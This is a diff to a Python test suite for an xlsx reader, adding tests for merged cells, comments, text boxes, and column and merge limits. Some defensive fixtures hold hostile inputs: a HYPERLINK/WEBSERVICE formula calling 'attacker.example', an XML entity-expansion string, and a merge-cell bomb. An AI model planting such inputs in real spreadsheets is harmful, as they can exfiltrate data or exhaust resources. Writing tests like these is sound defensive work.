@@ -49,7 +49,7 @@ def rows(inside: str, head: str = "") -> bytes:
 def test_cells_are_what_somebody_reads() -> None:
     got = sheet(
         book(("a: b", 3, 2.5, True, date(2026, 10, 15), datetime(2026, 10, 15, 10, 40), "=1+1", "“ü”\n😀")), "Log"
-    )
+    ).rows
     assert [row[:8] for row in got] == [
         ["a: b", "3", "2.5", "yes", "2026-10-15", "2026-10-15T10:40", "=1+1", "“ü”\n😀"]
     ]
@@ -57,7 +57,43 @@ def test_cells_are_what_somebody_reads() -> None:
 
 def test_a_formula_is_not_worked_out() -> None:
     got = sheet(book(("a",), formula='=HYPERLINK("http://attacker.example","x")&WEBSERVICE("http://attacker.example")'))
-    assert [row[0] for row in got] == ["a", ""]
+    assert [row[0] for row in got.rows] == ["a", ""]
+    assert got.others == ("Other",)
+
+
+def test_merged_cells_notes_boxes_and_formulas_without_a_value() -> None:
+    stream = io.BytesIO()
+    made = xlsxwriter.Workbook(stream, {"in_memory": True})
+    page = made.add_worksheet("Log")
+    page.merge_range("A1:C1", "All")
+    page.merge_range("A2:A4", "K7Q2M")
+    page.merge_range("B5:C6", "wide")
+    page.write_column("B2", ["one", "two"])
+    page.write_formula("C2", "=1+1", None, 2)
+    page.write_formula("C3", "=A0", None, "#REF!")
+    page.write_formula("C7", "=1+1", None, "?")
+    page.write("A6", "x")
+    page.write_comment("B2", "Is it\nso?")
+    page.insert_textbox("E2", "Read me")
+    made.close()
+    raw = packed({**parts(stream.getvalue()), SHEET: parts(stream.getvalue())[SHEET].replace(b"<v>?</v>", b"")})
+    got = sheet(raw)
+    assert [row[:3] for row in got.rows] == [
+        ["All", "", ""],
+        ["K7Q2M", "one", "2"],
+        ["K7Q2M", "two", "#REF!"],
+        ["", "", ""],
+        ["", "wide", ""],
+        ["x", "wide", ""],
+        ["", "", sheets.UNSAVED],
+    ]
+    assert got.beside == ("a text box: Read me", "B2: Is it\nso?")
+
+
+def test_more_columns_than_are_read_are_refused() -> None:
+    with pytest.raises(Stop, match="its sheet has more than 100 columns"):
+        sheet(book(("a",) * 101))
+    assert len(sheet(book(("a",) * 100)).rows[0]) == 100
 
 
 LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;">]>'
@@ -87,6 +123,13 @@ REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: with_part(SHEET, rows('<sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')),
         "its sheet has more than 20,000 rows",
     ),
+    "cells merged again and again": (
+        lambda: with_part(
+            SHEET,
+            rows("<sheetData/><mergeCells>" + '<mergeCell ref="A1:A1048576"/>' * 9 + "</mergeCells>"),
+        ),
+        "it has more merged cells",
+    ),
     "a password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "it has a password"),
 }
 
@@ -107,7 +150,7 @@ def test_a_sheet_that_says_it_is_huge_is_read_as_far_as_it_goes() -> None:
     raw = with_part(
         SHEET, rows('<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c><v>1</v></c></row></sheetData>')
     )
-    assert [row[0] for row in sheet(raw)] == ["1"]
+    assert [row[0] for row in sheet(raw).rows] == ["1"]
 
 
 def test_there_is_no_such_sheet() -> None:
